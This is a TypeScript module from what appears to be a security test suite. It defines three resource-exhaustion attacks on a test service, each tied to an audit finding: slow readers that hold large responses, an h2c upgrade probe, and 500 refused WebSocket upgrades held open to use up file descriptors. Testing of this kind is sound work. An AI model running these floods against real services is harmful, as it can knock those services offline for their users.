import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { type Attack, outcome, pause, until } from './attack.ts'
import type { Target } from './target.ts'

/** Opens a plain connection that never closes itself, sends text, and reads only if `reads` is set. */
async function dial({ url }: Target, text: string, reads: boolean): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true })
  socket.on('error', () => undefined)
  await once(socket, 'connect')
  if (reads) socket.setEncoding('utf8')
  else socket.pause()
  socket.write(text)
  return socket
}

export const slowReaders: Attack = {
  name: '60 connections that read nothing of a large answer',
  finding: 'H4',
  before: 'a copy each, for ever: 20 readers 3.6 GB',
  against: 'busy',
  async run({ busy }) {
    const before = busy.descriptors()
    const request = `GET /v0/matched-event-clusters?limit=500&view=full&includeRawMatches=true HTTP/1.1\r\nHost: a\r\nX-Api-Key: ${busy.keys.attacker}\r\n\r\n`
    const sockets = await Promise.all(Array.from({ length: 60 }, () => dial(busy, request, false)))
    const cut = await until(() => busy.descriptors() < before + 15, 90_000)
    for (const socket of sockets) socket.destroy()
    return outcome(cut === undefined ? 'still open after 90 s' : `cut after ${Math.round(cut / 1_000)} s`, {
      'slow readers are never cut': cut === undefined,
    })
  },
}

export const upgradeOffers: Attack = {
  name: 'an offer to upgrade to HTTP/2',
  finding: 'M1',
  before: 'empty reply',
  against: 'busy',
  async run({ busy }) {
    const socket = await dial(
      busy,
      'GET /health HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n',
      true,
    )
    const [answer] = await Promise.race([once(socket, 'data'), pause(20_000).then(() => [''])])
    socket.destroy()
    const line = String(answer).split('\r\n', 1)[0] || 'no answer'
    return outcome(line, { 'not answered': !line.includes(' 200 ') })
  },
}

export const refusedUpgrades: Attack = {
  name: '500 refused WebSockets, held open',
  finding: 'M2',
  before: '500 descriptors for 150 s and on',
  against: 'busy',
  async run({ busy }) {
    const before = busy.descriptors()
    const request =
      'GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
    const sockets = await Promise.all(Array.from({ length: 500 }, () => dial(busy, request, true)))
    const released = await until(() => busy.descriptors() - before <= 20, 20_000)
    const held = busy.descriptors() - before
    for (const socket of sockets) socket.destroy()
    const seen = released === undefined ? `${held} descriptors after 20 s` : `let go after ${Math.round(released)} ms`
    return outcome(seen, { 'descriptors are held': released === undefined })
  },
}
